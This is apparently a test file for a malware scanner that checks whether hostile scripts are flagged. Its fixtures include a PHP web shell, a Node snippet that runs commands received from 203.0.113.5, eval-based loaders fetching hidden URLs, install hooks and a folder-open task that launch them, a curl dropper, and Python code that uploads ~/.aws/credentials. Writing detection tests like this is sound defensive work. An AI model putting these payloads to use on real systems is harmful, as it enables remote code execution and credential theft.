import assert from 'node:assert/strict'
import { test } from 'node:test'
import { NODE_BYTES_MAX } from '#inspect/judge/scripts/scripting-languages.ts'
import { useInspector } from '#inspect/testing/inspector.ts'
import { writeZip } from '#inspect/testing/zip-writer.ts'

const { inspect, outcome } = useInspector()
const FOUND = 'Docvet.Script.RemoteControl'
const PAGE = '<?php\nsystem($_GET["c"]);\n'
const NODE = `const {exec}=require('child_process');const s=require('net');const net=s;net.connect(1,'203.0.113.5').on('data',d=>exec(d,()=>{}));`

test('a script is judged by its words, however long it is', () => {
  assert.equal(outcome(Buffer.from(PAGE.padEnd(500_000, '\n'))), FOUND)
})

test('a script of Node up to a length, because bundles have all words', () => {
  assert.equal(outcome(Buffer.from(NODE.padEnd(NODE_BYTES_MAX, '\n'))), FOUND)
  assert.equal(outcome(Buffer.from(NODE.padEnd(NODE_BYTES_MAX + 1, '\n'))), undefined)
})

test('an article about it is not', () => {
  assert.equal(outcome(Buffer.from(`A page that runs what a visitor sends:\n${PAGE}`)), undefined)
})

const hex = Buffer.from('https://files.example/a').toString('hex')
const request = (address: string, end: string): string =>
  `require('https').get(${address},r=>{let d='';r.on('data',c=>d+=c).on('end',()=>${end})})`
const HIDDEN = `Buffer.from('${hex}','hex').toString()`

test('a script of Node that runs what a server sends, from an address that nobody can read', () => {
  const waits = `const f=require('node-fetch');f(atob('${btoa('https://files.example/a')}')).then(r=>r.text())`
  for (const code of [
    `const a=${HIDDEN};${request('a', 'eval(d)')}`,
    `const a=1;${request("'http://203.0.113.5/a'", "new Function('require',d)(require)")}`,
    `${waits}.then(eval)`,
    `${waits}.then((t)=>{eval(t)})`,
  ])
    assert.equal(outcome(Buffer.from(code)), FOUND, code)
  for (const code of [
    `const a=1;${request("'https://files.example/a'", 'eval(d)')}`,
    `const a=${HIDDEN};${request('a', 'console.log(JSON.parse(d))')}`,
    `${waits}.then(t=>console.log(t))`,
  ])
    assert.equal(outcome(Buffer.from(code)), undefined, code)
})

test('the same in a command line, a package and a script that starts it', () => {
  const code = request(HIDDEN, 'eval(d)')
  const command = `node -e "${code}"`
  const named = (text: string, name: string) => inspect(Buffer.from(text), { name }).findings[0]
  for (const [name, text] of Object.entries({
    'a.sh': `${command}\n`,
    'a.bat': `@echo off\r\n${command}\r\n`,
    'a.py': `import os\nos.system("""${command} """)\n`,
    'package.json': JSON.stringify({ scripts: { preinstall: command } }),
  }))
    assert.equal(named(text, name)?.severity, 'malicious', name)
  const shown = `node -e "${request("'https://packages.example.com/a'", 'console.log(JSON.parse(d).version)')}"`
  assert.notEqual(named(`${shown}\n`, 'a.sh')?.severity, 'malicious')
  assert.notEqual(named(JSON.stringify({ scripts: { preinstall: shown } }), 'package.json')?.severity, 'malicious')
})

test('the same when a folder is opened', () => {
  const command = `node -e "${request(HIDDEN, 'eval(d)')}"`
  const tasks = (run: string) =>
    writeZip([
      {
        name: 'a/.vscode/tasks.json',
        data: Buffer.from(JSON.stringify({ tasks: [{ command: run, runOptions: { runOn: 'folderOpen' } }] })),
      },
    ])
  assert.equal(outcome(tasks(command)), 'Docvet.Script.Program')
  assert.equal(outcome(tasks('node -e "require(\'./watch\')"')), undefined)
})

test('an installation that downloads a program and starts it', () => {
  const installs = (postinstall: string) =>
    inspect(Buffer.from(JSON.stringify({ scripts: { postinstall } })), { name: 'package.json' }).findings[0]?.id
  const run = (address: string): string => `curl -s ${address} -o /tmp/.a && chmod +x /tmp/.a && nohup /tmp/.a &`
  assert.equal(installs(run('http://203.0.113.5/a')), 'Docvet.Script.Dropper')
  assert.notEqual(installs('patch-package && husky install'), 'Docvet.Script.Dropper')
})

test('a script of Python that sends the keys of accounts', () => {
  const sends = (file: string): string =>
    `import requests, os\nrequests.post("https://a.example", files={"f": open(os.path.expanduser("${file}"), "rb")})\n`
  const found = (text: string) => inspect(Buffer.from(text), { name: 'a.py' }).findings[0]?.severity
  assert.equal(found(sends('~/.aws/credentials')), 'malicious')
  assert.equal(found(sends('report.csv')), undefined)
})
